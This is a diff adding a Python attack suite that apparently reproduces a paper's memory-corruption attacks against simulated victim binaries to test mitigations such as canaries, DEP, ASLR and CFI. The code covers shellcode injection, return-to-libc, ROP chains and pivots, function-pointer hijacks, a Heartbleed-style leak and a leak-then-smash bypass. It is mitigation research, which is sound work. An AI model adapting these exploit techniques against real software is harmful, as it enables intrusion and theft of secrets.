@@ -1,0 +1,380 @@
+"""The I/O-attacker suite: every attack technique of Section III-B.
+
+Each attack takes the victim's deployment posture (a
+:class:`MitigationConfig`) and the victim's load seed, and returns an
+:class:`AttackResult`.  The attacker:
+
+1. *studies* a local copy of the same binary (same compile flags, own
+   machine, no ASLR, irrelevant canary) to learn the layout; then
+2. sends one crafted byte string to the victim's input channel and
+   observes the output channel.
+
+Nothing else crosses the interface -- this is exactly the paper's I/O
+attacker model.
+"""
+
+from __future__ import annotations
+
+from repro.attacks import shellcode
+from repro.attacks.base import AttackResult, Outcome, classify_failure, finish
+from repro.attacks.gadgets import (
+    GadgetCatalog,
+    build_exfiltration_chain,
+    build_shell_chain,
+)
+from repro.attacks.payloads import p32, smash, u32
+from repro.attacks.study import locate_overflow
+from repro.machine.machine import RunResult
+from repro.minic.codegen import SECURITY_ABORT_EXIT_CODE
+from repro.mitigations.config import MitigationConfig, NONE
+from repro.programs.builders import build_fig1, build_victim
+
+
+def _study_config(config: MitigationConfig) -> MitigationConfig:
+    """The attacker's local build: same binary, no load-time secrets."""
+    return config.with_(aslr_bits=0)
+
+
+def _shell_result(name: str, run: RunResult, detail_success: str) -> AttackResult:
+    if run.shell_spawned:
+        return AttackResult(name, Outcome.SUCCESS, detail_success, run)
+    if run.exit_code == SECURITY_ABORT_EXIT_CODE:
+        return AttackResult(
+            name, Outcome.DETECTED, "compiler-inserted check aborted", run
+        )
+    return finish(name, classify_failure(run))
+
+
+# ---------------------------------------------------------------------------
+# 1. Stack smashing with direct code injection [1]
+# ---------------------------------------------------------------------------
+
+
+def attack_stack_smash_injection(config: MitigationConfig = NONE,
+                                 seed: int = 0) -> AttackResult:
+    """Overflow Figure 1's buffer with shellcode and point the saved
+    return address back at the buffer (Aleph One's classic)."""
+    name = "stack-smash+code-injection"
+    local = build_fig1(_study_config(config), wide_open=True)
+    site = locate_overflow(local, frames_up=1)
+    payload = smash(
+        site.offset_to_return,
+        site.buffer_addr,               # return into the injected code
+        prefix=shellcode.spawn_shell(),
+    )
+    victim = build_fig1(config, seed=seed, wide_open=True)
+    victim.feed(payload)
+    run = victim.run()
+    return _shell_result(name, run, "shell via injected shellcode")
+
+
+# ---------------------------------------------------------------------------
+# 2. Code reuse: return-to-libc
+# ---------------------------------------------------------------------------
+
+
+def attack_ret2libc(config: MitigationConfig = NONE, seed: int = 0) -> AttackResult:
+    """Point the saved return address at libc's shell-spawning routine.
+
+    No injected code executes, so DEP does not help; the canary and
+    ASLR still do."""
+    name = "return-to-libc"
+    local = build_fig1(_study_config(config), wide_open=True)
+    site = locate_overflow(local, frames_up=1)
+    spawn = local.symbol("libc_spawn_shell")
+    exit_fn = local.symbol("libc_exit")
+    payload = smash(site.offset_to_return, spawn, exit_fn)
+    victim = build_fig1(config, seed=seed, wide_open=True)
+    victim.feed(payload)
+    run = victim.run()
+    return _shell_result(name, run, "shell via existing libc code")
+
+
+# ---------------------------------------------------------------------------
+# 3. Code reuse: return-oriented programming [2]
+# ---------------------------------------------------------------------------
+
+
+def attack_rop_shell(config: MitigationConfig = NONE, seed: int = 0) -> AttackResult:
+    """Chain ``ret``-terminated gadgets to spawn a shell under DEP."""
+    name = "rop-shell"
+    local = build_fig1(_study_config(config), wide_open=True)
+    site = locate_overflow(local, frames_up=1)
+    catalog = GadgetCatalog.from_image_segments(local.image.segments)
+    chain = build_shell_chain(catalog)
+    if chain is None:
+        return AttackResult(name, Outcome.NO_EFFECT, "no usable gadgets found")
+    payload = smash(site.offset_to_return, chain[0], *chain[1:])
+    victim = build_fig1(config, seed=seed, wide_open=True)
+    victim.feed(payload)
+    run = victim.run()
+    return _shell_result(name, run, f"shell via {len(chain)}-word gadget chain")
+
+
+def attack_rop_pivot(config: MitigationConfig = NONE,
+                     seed: int = 0) -> AttackResult:
+    """The paper's trampoline, verbatim: "(1) resets the Stack Pointer
+    to a memory address whose contents is controlled by the attacker,
+    and (2) returns".
+
+    The stack overflow here is too tight for a chain, but the attacker
+    also controls a large global buffer: park the chain there, and
+    spend the two overflow words on ``pop sp; ret`` plus the buffer's
+    address."""
+    name = "rop-pivot"
+    local = build_victim("rop_pivot", _study_config(config))
+    site = locate_overflow(local, read_occurrence=2)
+    inbox = local.symbol("rop_pivot:inbox")
+    catalog = GadgetCatalog.from_image_segments(local.image.segments)
+    pivot = catalog.stack_pivot()
+    chain = build_shell_chain(catalog)
+    if pivot is None or chain is None:
+        return AttackResult(name, Outcome.NO_EFFECT, "no pivot/chain gadgets")
+    victim = build_victim("rop_pivot", config, seed=seed)
+    victim.feed(b"".join(p32(word) for word in chain).ljust(128, b"\x00"))
+    victim.feed(smash(site.offset_to_return, pivot.address, inbox))
+    run = victim.run()
+    return _shell_result(name, run, "shell via stack pivot into the inbox")
+
+
+def attack_rop_exfiltrate(config: MitigationConfig = NONE,
+                          seed: int = 0) -> AttackResult:
+    """A longer chain: load registers from the stack via ``pop``
+    gadgets, then invoke write() to exfiltrate a static key."""
+    name = "rop-exfiltrate"
+    local = build_victim("rop_exfil", _study_config(config))
+    site = locate_overflow(local)
+    key_addr = local.symbol("rop_exfil:master_key")
+    catalog = GadgetCatalog.from_image_segments(local.image.segments)
+    chain = build_exfiltration_chain(catalog, key_addr, 16)
+    if chain is None:
+        return AttackResult(name, Outcome.NO_EFFECT, "no usable gadgets found")
+    payload = smash(site.offset_to_return, chain[0], *chain[1:])
+    victim = build_victim("rop_exfil", config, seed=seed)
+    victim.feed(payload)
+    run = victim.run()
+    if b"MK-7F3A55E90C2" in run.output:
+        return AttackResult(name, Outcome.SUCCESS, "key exfiltrated via ROP",
+                            run, {"leak": run.output})
+    return finish(name, classify_failure(run))
+
+
+# ---------------------------------------------------------------------------
+# 4. Code-pointer overwrite (function pointers)
+# ---------------------------------------------------------------------------
+
+
+def attack_funcptr_to_libc(config: MitigationConfig = NONE,
+                           seed: int = 0) -> AttackResult:
+    """Overwrite a function pointer that sits between the buffer and
+    the canary, pointing it at libc's shell routine.  Evades canaries
+    entirely; coarse CFI does *not* stop it because the target is a
+    legitimate function entry."""
+    name = "funcptr-overwrite(libc)"
+    local = build_victim("funcptr", _study_config(config))
+    spawn = local.symbol("libc_spawn_shell")
+    payload = b"A" * 16 + p32(spawn)
+    victim = build_victim("funcptr", config, seed=seed)
+    victim.feed(payload)
+    run = victim.run()
+    return _shell_result(name, run, "shell via hijacked function pointer")
+
+
+def attack_funcptr_to_injected(config: MitigationConfig = NONE,
+                               seed: int = 0) -> AttackResult:
+    """Function-pointer overwrite aimed at shellcode *in the buffer*:
+    blocked by DEP (buffer not executable) and by CFI (target is not a
+    function entry), but evades canaries."""
+    name = "funcptr-overwrite(inject)"
+    local = build_victim("funcptr", _study_config(config))
+    site = locate_overflow(local)
+    code = shellcode.spawn_shell()
+    payload = code + b"A" * (16 - len(code)) + p32(site.buffer_addr)
+    victim = build_victim("funcptr", config, seed=seed)
+    victim.feed(payload)
+    run = victim.run()
+    return _shell_result(name, run, "shell via pointer into injected code")
+
+
+def attack_funcptr_same_type(config: MitigationConfig = NONE,
+                             seed: int = 0) -> AttackResult:
+    """Function-pointer overwrite aimed at a *different function of the
+    same type* (``waive_payment`` instead of ``apply_discount``).
+
+    This is the residual attack surface of typed CFI: the target
+    carries a landing pad with the correct type tag, so even the
+    fine-grained policy admits it -- yet the program's behaviour is
+    subverted (payment waived)."""
+    name = "funcptr-overwrite(same-type)"
+    local = build_victim("funcptr", _study_config(config))
+    target = local.symbol("funcptr:waive_payment")
+    payload = b"A" * 16 + p32(target)
+    victim = build_victim("funcptr", config, seed=seed)
+    victim.feed(payload)
+    run = victim.run()
+    if run.output == b"0\n":
+        return AttackResult(name, Outcome.SUCCESS,
+                            "payment waived via same-type hijack", run)
+    return finish(name, classify_failure(run))
+
+
+def attack_partial_overwrite(config: MitigationConfig = NONE,
+                             seed: int = 0) -> AttackResult:
+    """Partial pointer overwrite: clobber only the *low two bytes* of
+    the saved return address.
+
+    Because ASLR shifts are page-aligned, the low 12 bits of every
+    code address are randomisation-invariant; overwriting just 16 bits
+    leaves the unknown high bits of the victim's real (shifted) return
+    address in place.  The attack lands whenever the shift's bits
+    12-15 happen to be zero -- ~1/16 under page-level ASLR, versus
+    ~2^-16 for guessing the whole address.  A classic entropy-eroding
+    technique the E6 sweep quantifies.
+    """
+    name = "partial-overwrite"
+    local = build_fig1(_study_config(config), wide_open=True)
+    site = locate_overflow(local, frames_up=1)
+    spawn = local.symbol("libc_spawn_shell")
+    # Fill up to the return slot, then exactly two bytes of target.
+    payload = b"A" * site.offset_to_return + p32(spawn)[:2]
+    victim = build_fig1(config, seed=seed, wide_open=True)
+    victim.feed(payload)
+    run = victim.run()
+    return _shell_result(name, run, "shell via 2-byte return overwrite")
+
+
+# ---------------------------------------------------------------------------
+# 5. Code corruption via an arbitrary write
+# ---------------------------------------------------------------------------
+
+
+def attack_code_corruption(config: MitigationConfig = NONE,
+                           seed: int = 0) -> AttackResult:
+    """Use the ``arr[i] = v`` primitive to patch shellcode over a
+    function that will run later.  The write reaches any address
+    (Section III-A), but DEP makes the text segment non-writable."""
+    name = "code-corruption"
+    local = build_victim("arbitrary_write", _study_config(config))
+    target = local.symbol("arbitrary_write:check_credentials")
+    # Where is arr?  Breakpoint on the first read (inside read_int
+    # called from main) and walk one frame up to main.
+    from repro.isa.registers import BP
+    from repro.machine import syscalls as sys_numbers
+    from repro.attacks.study import run_until_syscall
+
+    machine = run_until_syscall(local, sys_numbers.SYS_READ)
+    main_bp = machine.memory.read_word(machine.cpu.regs[BP])
+    # main's first local is arr[4]: 16 bytes just below the (optional)
+    # canary slot.
+    arr_addr = main_bp - (4 if config.stack_canaries else 0) - 16
+
+    code = shellcode.spawn_shell()
+    code += b"\x00" * (-len(code) % 4)
+    words = [u32(code, i) for i in range(0, len(code), 4)]
+    payload = p32(len(words))
+    for position, word in enumerate(words):
+        index = (target + 4 * position - arr_addr) // 4
+        payload += p32(index) + p32(word)
+    victim = build_victim("arbitrary_write", config, seed=seed)
+    victim.feed(payload)
+    run = victim.run()
+    return _shell_result(name, run, "shell via patched program text")
+
+
+# ---------------------------------------------------------------------------
+# 6. Data-only attack
+# ---------------------------------------------------------------------------
+
+
+def attack_data_only(config: MitigationConfig = NONE, seed: int = 0) -> AttackResult:
+    """Overflow only as far as the adjacent ``is_admin`` flag: no code
+    pointer is touched, so canaries, DEP, ASLR, shadow stacks and CFI
+    are all blind to it (the paper's point that data-only attacks
+    survive the deployed countermeasures)."""
+    name = "data-only"
+    payload = b"A" * 16 + p32(1)
+    victim = build_victim("data_only", config, seed=seed)
+    victim.feed(payload)
+    run = victim.run()
+    if b"31337" in run.output:
+        return AttackResult(name, Outcome.SUCCESS,
+                            "admin action performed without credentials", run)
+    return finish(name, classify_failure(run))
+
+
+# ---------------------------------------------------------------------------
+# 7. Information leaks
+# ---------------------------------------------------------------------------
+
+
+def attack_heartbleed(config: MitigationConfig = NONE, seed: int = 0) -> AttackResult:
+    """Over-read past a reply buffer, leaking the adjacent key
+    (the Heartbleed pattern).  A pure confidentiality violation: no
+    integrity countermeasure triggers."""
+    name = "info-leak(heartbleed)"
+    payload = p32(48) + b"x" * 16
+    victim = build_victim("heartbleed", config, seed=seed)
+    victim.feed(payload)
+    run = victim.run()
+    if b"KEY-19A7F3C055E" in run.output:
+        return AttackResult(name, Outcome.SUCCESS, "secret key leaked",
+                            run, {"leak": run.output})
+    return finish(name, classify_failure(run))
+
+
+def attack_leak_then_smash(config: MitigationConfig = NONE,
+                           seed: int = 0) -> AttackResult:
+    """Two-stage bypass of canary + DEP + ASLR via an information leak
+    (Strackx et al., "Breaking the memory secrecy assumption" [5]):
+
+    1. over-read the stack, learning the canary value and a return
+       address (which reveals the victim's text-segment ASLR shift);
+    2. overflow with the leaked canary and a return-to-libc target
+       rebased by the recovered shift.
+    """
+    name = "leak-then-smash"
+    study_feed = p32(1) + p32(16) + p32(28) + b"y" * 16
+    local = build_victim("leak_then_smash", _study_config(config))
+    site = locate_overflow(local, read_occurrence=4, feed=study_feed)
+    offset = site.offset_to_return
+    spawn_unshifted = local.symbol("libc_spawn_shell")
+    exit_unshifted = local.symbol("libc_exit")
+
+    # Round 1 against the real victim: leak through the return slot.
+    victim = build_victim("leak_then_smash", config, seed=seed)
+    leak_len = offset + 4
+    victim.feed(p32(2))                      # two request rounds
+    victim.feed(p32(0) + p32(leak_len))      # fill=0, echo=offset+4
+    from repro.attacks.study import run_until_syscall
+    from repro.errors import MachineFault
+    from repro.machine import syscalls as sys_numbers
+
+    # Pause the victim just before it reads the round-2 header (read
+    # occurrence 5: rounds, fill1, echo1, buf1, -> fill2) so we can
+    # parse the leaked bytes and answer with the smash payload.  The
+    # pause is pure scheduling; only input/output bytes cross the
+    # attacker interface.
+    try:
+        run_until_syscall(victim, sys_numbers.SYS_READ, 5)
+    except (RuntimeError, MachineFault):
+        run = victim.run()
+        return finish(name, classify_failure(run, "victim died before leaking"))
+    leaked = victim.machine.output.getvalue()[-leak_len:]
+    if len(leaked) < leak_len:
+        run = victim.run()
+        return finish(name, classify_failure(run, "leak too short"))
+    canary = u32(leaked, offset - 8) if config.stack_canaries else None
+    saved_bp = u32(leaked, offset - 4)
+    leaked_return = u32(leaked, offset)
+    shift = leaked_return - site.original_return
+    payload = smash(
+        offset,
+        spawn_unshifted + shift,
+        exit_unshifted + shift,
+        saved_bp=saved_bp,
+        canary=canary,
+    )
+    victim.feed(p32(len(payload)) + p32(0))  # round 2: fill=payload, echo=0
+    victim.feed(payload)
+    run = victim.run()
+    return _shell_result(name, run, "canary+DEP+ASLR bypassed via leak")
